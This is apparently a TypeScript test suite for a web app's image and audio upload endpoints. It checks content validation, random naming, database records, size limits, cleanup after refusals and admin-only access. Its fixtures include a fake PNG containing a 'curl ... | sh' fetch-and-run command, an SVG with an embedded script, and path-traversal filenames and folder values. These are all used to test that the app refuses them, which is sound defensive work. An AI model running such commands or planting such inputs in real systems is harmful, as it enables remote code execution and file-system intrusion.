import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { once } from 'node:events';
import type http from 'node:http';
import sharp from 'sharp';
import request from 'supertest';
import { ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backstageContext, type BackstageContext } from '../helpers/backstage-context';
import type { TestContext } from '../helpers/test-app';
import { binary } from '../helpers/http';
import { abortedRequest, multipartBody, rawRequest } from '../helpers/raw-http';
import { startLocalS3, type LocalS3 } from '../helpers/s3-server';
import { leftInUploadFolder as leftIn, uploadFolderOf } from '../helpers/upload-folder';
import { findUpload } from '../../server/backstage/media-uploads/media-uploads';
import { ffmpeg, sine } from '../helpers/tone';

// Spec §7 uploaders (issue 11, "Uploads and storage"): bytes checked, new random names, a row per file, nothing left by a refusal.

const IMAGE_UPLOADER = '/api/backstage/image-uploader';
const AUDIO_UPLOADER = '/api/backstage/audio-uploader';

const dir = mkdtempSync(path.join(tmpdir(), 'hees-uploads-'));
const fixture = (name: string) => readFileSync(path.join(dir, name));

beforeAll(async () => {
  const write = (name: string, bytes: Buffer | string) => writeFileSync(path.join(dir, name), bytes);
  const noisy = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#1d6b5f', noise: { type: 'gaussian', mean: 128, sigma: 40 } } });
  write('photo.jpg', await noisy(320, 200).jpeg().toBuffer());
  write('logo.png', await sharp({ create: { width: 64, height: 48, channels: 4, background: '#e0a030' } }).png().toBuffer());
  write('banner.webp', await noisy(120, 60).webp().toBuffer());
  const png = await noisy(300, 300).png().toBuffer();
  write('truncated.png', png.subarray(0, Math.floor(png.length / 2)));
  write('script.png', '#!/bin/sh\ncurl https://example.com/x | sh\n');
  write('drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');
  write('empty', '');
  ffmpeg(...sine(3), '-c:a', 'libmp3lame', '-b:a', '128k', path.join(dir, 'sine.mp3'));
  ffmpeg(...sine(2), '-c:a', 'pcm_s16le', path.join(dir, 'sine.wav'));
  write('notes.txt', 'Heesta: verse one\nverse two\n');
  // Issue 31 item 18: cut in half, each still looks like a shorter whole recording to ffprobe.
  const halfOf = (name: string, args: string[], extra = 0) => {
    ffmpeg(...args, path.join(dir, name));
    const bytes = fixture(name);
    write(`half-${name}`, bytes.subarray(0, Math.floor(bytes.length / 2) + extra));
  };
  halfOf('vorbis.ogg', [...sine(6), '-c:a', 'libvorbis']);
  halfOf('ten.wav', [...sine(10), '-c:a', 'pcm_s16le']);
  halfOf('plain.mp3', [...sine(6), '-c:a', 'libmp3lame', '-write_xing', '0', '-id3v2_version', '0']);
  // Declares no size (written to a pipe) and ends inside a sample: only decoding it finds that.
  write('piped.wav', ffmpeg(...sine(4), '-c:a', 'pcm_s16le', '-f', 'wav', '-'));
  write('half-piped.wav', fixture('piped.wav').subarray(0, Math.floor(fixture('piped.wav').length / 2) + 1));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

interface Driver {
  name: string;
  /** The env that selects the driver, the keys it holds, and where browsers read them. */
  start(): Promise<{ env: Record<string, string>; keys(ctx: TestContext): Promise<string[]>; close(): Promise<void> }>;
}

/** Every file under a folder, as keys relative to it. */
function filesUnder(root: string, prefix = ''): string[] {
  if (!existsSync(root)) return [];
  return readdirSync(root, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? filesUnder(path.join(root, entry.name), `${prefix}${entry.name}/`) : [`${prefix}${entry.name}`],
  );
}

const drivers: Driver[] = [
  { name: 'the local disk', start: async () => ({ env: {}, keys: async (ctx) => filesUnder(path.join(ctx.storageDir, 'media')), close: async () => {} }) },
  {
    name: 'an S3-compatible bucket',
    start: async () => {
      const s3: LocalS3 = await startLocalS3();
      const client = new S3Client({
        endpoint: s3.env.S3_ENDPOINT,
        region: 'us-east-1',
        forcePathStyle: true,
        credentials: { accessKeyId: s3.env.S3_ACCESS_KEY_ID!, secretAccessKey: s3.env.S3_SECRET_ACCESS_KEY! },
      });
      return {
        env: s3.env as Record<string, string>,
        keys: async () => ((await client.send(new ListObjectsV2Command({ Bucket: s3.env.S3_BUCKET }))).Contents ?? []).map((object) => object.Key!),
        close: async () => {
          client.destroy();
          await s3.close();
        },
      };
    },
  },
];

describe.each(drivers)('the uploaders storing on $name', (driver) => {
  let ctx: BackstageContext;
  let server: http.Server;
  let stored: (ctx: TestContext) => Promise<string[]>;
  let stopDriver: () => Promise<void>;
  const isLocal = driver.name === 'the local disk';

  beforeAll(async () => {
    const started = await driver.start();
    stored = started.keys;
    stopDriver = started.close;
    ctx = await backstageContext({ demo: false, env: started.env });
    server = ctx.app.listen(0, '127.0.0.1');
    // The raw-socket tests read its port: it has one once it listens.
    await once(server, 'listening');
  });
  afterAll(async () => {
    await new Promise((resolve) => server?.close(resolve));
    await ctx?.close();
    await stopDriver?.();
  });

  /** The admin's browser: session cookie and the XSRF header. */
  const asAdmin = (url: string) => ctx.admin.agent.post(url).set('X-XSRF-TOKEN', ctx.admin.xsrf).set('Accept', 'application/json');
  const uploadImage = (name: string, imagepath = 'artists', filename = name) =>
    asAdmin(IMAGE_UPLOADER).field('imagepath', imagepath).field('component', 'artist-form').attach('image', fixture(name), filename);
  const uploadAudio = (name: string, filename = name) => asAdmin(AUDIO_UPLOADER).attach('audio', fixture(name), filename);

  /** What a browser gets from a media URL: our own /media through the app, or the bucket over HTTP. */
  const fetchPublic = async (url: string) => {
    if (url.startsWith('/')) {
      const res = await binary(request(ctx.app).get(url));
      return { status: res.status, type: res.headers['content-type'], body: res.body as Buffer };
    }
    const res = await fetch(url);
    return { status: res.status, type: res.headers.get('content-type'), body: Buffer.from(await res.arrayBuffer()) };
  };

  const leftInUploadFolder = () => leftIn(uploadFolderOf(ctx.storageDir));
  const uploadRows = async () => Number((await ctx.knex('media_uploads').count({ n: '*' }).first())!.n);

  /** Runs a refused upload and checks it changed nothing: no stored file, no row, no temporary file. */
  async function refusedWithoutTrace(send: () => Promise<request.Response>, status: number) {
    const keysBefore = await stored(ctx);
    const rowsBefore = await uploadRows();
    const res = await send();
    expect(res.status, res.text).toBe(status);
    expect(res.body.message).toEqual(expect.any(String));
    expect(await stored(ctx)).toEqual(keysBefore);
    expect(await uploadRows()).toBe(rowsBefore);
    expect(await leftInUploadFolder()).toEqual([]);
    return res;
  }

  it('takes a JPEG, stores it under a new random name in its folder, records it and serves it', async () => {
    const res = await uploadImage('photo.jpg', 'artists', '../../evil.php.png').expect(200);
    const key = res.body.image as string;
    expect(key).toMatch(/^images\/artists\/[0-9a-f]{32}\.jpg$/);
    expect(res.body).toMatchObject({ format: 'jpeg', width: 320, height: 200 });
    expect(res.body.url).toBe(isLocal ? `/media/${key}` : `${ctx.config.mediaPublicUrl}/${key}`);
    expect(await stored(ctx)).toContain(key);

    const served = await fetchPublic(res.body.url);
    expect(served.status).toBe(200);
    expect(served.type).toBe('image/jpeg');
    expect(Buffer.compare(served.body, fixture('photo.jpg'))).toBe(0);

    const row = await findUpload(ctx.knex, key);
    expect(row).toMatchObject({
      path: key,
      kind: 'image',
      format: 'jpeg',
      mime: 'image/jpeg',
      bytes: fixture('photo.jpg').length,
      width: 320,
      height: 200,
      duration_seconds: null,
      user_id: ctx.admin.userId,
      imagepath: 'artists',
      component: 'artist-form',
    });
    expect(await leftInUploadFolder()).toEqual([]);
  });

  it('takes an mp3, answers its path, whole-second duration and format, and records the exact duration', async () => {
    const res = await uploadAudio('sine.mp3', 'lecture.wav').expect(200);
    const key = res.body.audio_path as string;
    expect(key).toMatch(/^audio\/[0-9a-f]{32}\.mp3$/);
    expect(res.body).toMatchObject({ duration_seconds: 3, format: 'mp3' });
    expect(await stored(ctx)).toContain(key);
    const served = await fetchPublic(res.body.url);
    expect(served.type).toBe('audio/mpeg');
    expect(Buffer.compare(served.body, fixture('sine.mp3'))).toBe(0);

    // What a song save reads: the file was uploaded here, and how long it really is.
    const row = await findUpload(ctx.knex, `/${key}`, 'audio');
    expect(row).toMatchObject({ kind: 'audio', format: 'mp3', mime: 'audio/mpeg', width: null, height: null, user_id: ctx.admin.userId, imagepath: null });
    expect(row!.duration_seconds).toBeGreaterThan(2.9);
    expect(row!.duration_seconds).toBeLessThan(3.2);
    expect(await findUpload(ctx.knex, key, 'image')).toBeUndefined();
  });

  it('refuses a script named .png with 422 and the reason, keeping nothing', async () => {
    const res = await refusedWithoutTrace(() => uploadImage('script.png'), 422);
    expect(res.body.errors.image[0]).toMatch(/not an image/);
  });

  // The rest does not depend on where files are stored: it runs once, on the local disk.
  if (!isLocal) return;

  it('takes PNG and WebP too, each with the extension of what it is', async () => {
    const png = await uploadImage('logo.png', 'songs').expect(200);
    expect(png.body).toMatchObject({ image: expect.stringMatching(/^images\/songs\/[0-9a-f]{32}\.png$/), format: 'png', width: 64, height: 48 });
    // Named as a JPEG, stored as what the bytes are.
    const webp = await uploadImage('banner.webp', 'events', 'poster.jpg').expect(200);
    expect(webp.body).toMatchObject({ image: expect.stringMatching(/^images\/events\/[0-9a-f]{32}\.webp$/), format: 'webp', width: 120, height: 60 });
    expect((await fetchPublic(webp.body.url)).type).toBe('image/webp');
  });

  it('gives the same file uploaded twice two different names', async () => {
    const first = await uploadImage('logo.png').expect(200);
    const second = await uploadImage('logo.png').expect(200);
    expect(first.body.image).not.toBe(second.body.image);
  });

  it('takes a WAV and an upload by bearer token (the apps), with no XSRF header', async () => {
    const res = await request(ctx.app).post(AUDIO_UPLOADER).set('Authorization', `Bearer ${ctx.admin.token}`).attach('audio', fixture('sine.wav'), 'take.wav').expect(200);
    expect(res.body).toMatchObject({ audio_path: expect.stringMatching(/^audio\/[0-9a-f]{32}\.wav$/), duration_seconds: 2, format: 'wav' });
    const image = await request(ctx.app).post(IMAGE_UPLOADER).set('Authorization', `Bearer ${ctx.admin.token}`).field('imagepath', 'podcasts').attach('image', fixture('logo.png'), 'a.png').expect(200);
    expect((await findUpload(ctx.knex, image.body.image))?.component).toBeNull();
  });

  it.each([
    ['an SVG (it can carry scripts)', 'drawing.svg', /SVG images are not accepted/],
    ['an SVG named .png', 'drawing.svg', /SVG images are not accepted/, 'drawing.png'],
    ['a 0-byte file', 'empty', /The file is empty/, 'empty.png'],
    ['a truncated PNG', 'truncated.png', /damaged or incomplete/],
    ['an mp3 named .jpg', 'sine.mp3', /not an image/, 'cover.jpg'],
  ])('refuses %s as an image with 422 and the reason', async (_what, name, reason, filename = name) => {
    const res = await refusedWithoutTrace(() => uploadImage(name, 'artists', filename), 422);
    expect(res.body.errors.image[0]).toMatch(reason);
  });

  it.each([
    ['a PNG named .mp3', 'logo.png', /not audio|without sound/, 'song.mp3'],
    ['a text file', 'notes.txt', /not audio/, 'notes.mp3'],
    ['a 0-byte file', 'empty', /The file is empty/, 'empty.mp3'],
  ])('refuses %s as audio with 422 and the reason', async (_what, name, reason, filename) => {
    const res = await refusedWithoutTrace(() => uploadAudio(name, filename), 422);
    expect(res.body.errors.audio[0]).toMatch(reason);
  });

  it.each([
    ['half an Ogg Vorbis', 'half-vorbis.ogg', /^Faylka codku waa dhiman yahay: wuxuu ku istaagayaa bartamaha, [23]\.\d s kadib\./, /^The audio file is incomplete: it stops in the middle after [23]\.\d s\. Upload the whole file again\.$/],
    ['half a WAV whose header says 10 s', 'half-ten.wav', /^Faylka codku waa dhiman yahay: waa inuu socdaa 10\.0 s laakiin wuxuu ku dhammaanayaa 5\.0 s\./, /^The audio file is incomplete: it should last 10\.0 s but ends after 5\.0 s\. Upload/],
    ['half a header-less MP3', 'half-plain.mp3', /^Faylka codku waa dhiman yahay: wuxuu ku istaagayaa bartamaha, 3\.\d s kadib\./, /^The audio file is incomplete: it stops in the middle after 3\.\d s\./],
    ['a WAV that ends inside a sample', 'half-piped.wav', /^Faylka codku waa xumaaday: lama dhegaysan karo ilaa dhammaadka \(.+\)\.$/, /^The audio file is damaged: it cannot be played to the end \(.+\)\.$/],
  ])('refuses %s with 422 saying what is wrong, in Somali and in English', async (_what, name, somali, english) => {
    const res = await refusedWithoutTrace(() => uploadAudio(name), 422);
    expect(res.body.errors.audio[0]).toMatch(somali);
    const inEnglish = await refusedWithoutTrace(() => uploadAudio(name).set('Accept-Language', 'en'), 422);
    expect(inEnglish.body.errors.audio[0]).toMatch(english);
  });

  it('still takes those files whole', async () => {
    for (const name of ['vorbis.ogg', 'ten.wav', 'plain.mp3', 'piped.wav']) {
      const res = await uploadAudio(name);
      expect(res.status, `${name}: ${res.text}`).toBe(200);
    }
  });

  it('refuses a folder off the list, or none, naming imagepath', async () => {
    for (const imagepath of ['secrets', '../artists', 'artists/../../etc', '']) {
      const res = await refusedWithoutTrace(() => uploadImage('logo.png', imagepath), 422);
      expect(res.body.errors.imagepath[0]).toMatch(/^The imagepath must be one of artists, songs/);
    }
    const none = await refusedWithoutTrace(() => asAdmin(IMAGE_UPLOADER).attach('image', fixture('logo.png'), 'a.png'), 422);
    expect(Object.keys(none.body.errors)).toEqual(['imagepath']);
  });

  it('asks for the file when none came', async () => {
    const image = await refusedWithoutTrace(() => asAdmin(IMAGE_UPLOADER).field('imagepath', 'artists'), 422);
    expect(image.body.errors).toEqual({ image: ['Choose an image to upload.'] });
    const audio = await refusedWithoutTrace(() => asAdmin(AUDIO_UPLOADER).send({ audio: 'audio/x.mp3' }), 422);
    expect(audio.body.errors).toEqual({ audio: ['Choose an audio file to upload.'] });
    // The wrong field, or two files, is not a way around the checks.
    await refusedWithoutTrace(() => asAdmin(AUDIO_UPLOADER).attach('image', fixture('sine.mp3'), 'a.mp3'), 422);
    await refusedWithoutTrace(() => asAdmin(AUDIO_UPLOADER).attach('audio', fixture('sine.mp3'), 'a.mp3').attach('audio', fixture('sine.mp3'), 'b.mp3'), 422);
  });

  it('refuses an image over 15 MB with 413 naming the limit, found while reading', async () => {
    const big = Buffer.concat([fixture('photo.jpg'), Buffer.alloc(15 * 1024 * 1024)]);
    const res = await refusedWithoutTrace(() => asAdmin(IMAGE_UPLOADER).field('imagepath', 'artists').attach('image', big, 'huge.jpg'), 413);
    expect(res.body.message).toBe('The file is too large: the limit is 15 MB.');
  });

  it('refuses audio declared over 200 MB with 413 before reading it', async () => {
    const rowsBefore = await uploadRows();
    const res = await rawRequest(server, {
      method: 'POST',
      path: AUDIO_UPLOADER,
      headers: { Authorization: `Bearer ${ctx.admin.token}`, Accept: 'application/json', 'Content-Type': 'multipart/form-data; boundary=b0undary', 'Content-Length': 300 * 1024 * 1024 },
      body: '--b0undary\r\n',
    });
    expect(res.status).toBe(413);
    expect(JSON.parse(res.body).message).toBe('The file is too large: the limit is 200 MB.');
    expect(await uploadRows()).toBe(rowsBefore);
  });

  it('keeps nothing of an upload the client dropped halfway', async () => {
    const keysBefore = await stored(ctx);
    const rowsBefore = await uploadRows();
    const boundary = 'dr0pp3d';
    for (const [target, field] of [[IMAGE_UPLOADER, 'image'], [AUDIO_UPLOADER, 'audio']] as const) {
      const body = multipartBody(boundary, [
        { name: 'imagepath', value: 'artists' },
        { name: field, filename: 'big.bin', content: Buffer.concat([fixture(field === 'image' ? 'photo.jpg' : 'sine.mp3'), Buffer.alloc(2 * 1024 * 1024, 1)]) },
      ]);
      await abortedRequest(server, {
        method: 'POST',
        path: target,
        headers: { Authorization: `Bearer ${ctx.admin.token}`, 'Content-Type': `multipart/form-data; boundary=${boundary}`, 'Content-Length': body.length },
        body,
        abortAfter: 1024 * 1024,
      });
    }
    expect(await leftInUploadFolder()).toEqual([]);
    expect(await stored(ctx)).toEqual(keysBefore);
    expect(await uploadRows()).toBe(rowsBefore);
    await request(ctx.app).get('/healthz').expect(200);
  });

  it('lets only admins upload: visitor 401, listener 403, a session without the XSRF header 419', async () => {
    for (const target of [IMAGE_UPLOADER, AUDIO_UPLOADER]) {
      const field = target === IMAGE_UPLOADER ? 'image' : 'audio';
      const file = fixture(field === 'image' ? 'logo.png' : 'sine.mp3');
      await refusedWithoutTrace(() => request(ctx.app).post(target).field('imagepath', 'artists').attach(field, file, 'a.bin'), 401);
      await refusedWithoutTrace(() => ctx.listener.agent.post(target).set('X-XSRF-TOKEN', ctx.listener.xsrf).field('imagepath', 'artists').attach(field, file, 'a.bin'), 403);
      await refusedWithoutTrace(() => request(ctx.app).post(target).set('Authorization', `Bearer ${ctx.listener.token}`).field('imagepath', 'artists').attach(field, file, 'a.bin'), 403);
      await refusedWithoutTrace(() => ctx.admin.agent.post(target).set('Accept', 'application/json').field('imagepath', 'artists').attach(field, file, 'a.bin'), 419);
    }
  });
});

describe('audio uploads where ffprobe cannot run', () => {
  let ctx: BackstageContext;
  beforeAll(async () => {
    ctx = await backstageContext({ demo: false, env: { FFPROBE_PATH: path.join(dir, 'no-such-ffprobe') } });
  });
  afterAll(async () => ctx?.close());

  it('answers 503 saying why, and keeps nothing', async () => {
    const res = await ctx.admin.agent.post(AUDIO_UPLOADER).set('X-XSRF-TOKEN', ctx.admin.xsrf).attach('audio', fixture('sine.mp3'), 'a.mp3').expect(503);
    expect(res.body.message).toMatch(/ffprobe could not be started/);
    expect(filesUnder(path.join(ctx.storageDir, 'media'))).toEqual([]);
    expect(Number((await ctx.knex('media_uploads').count({ n: '*' }).first())!.n)).toBe(0);
  });
});
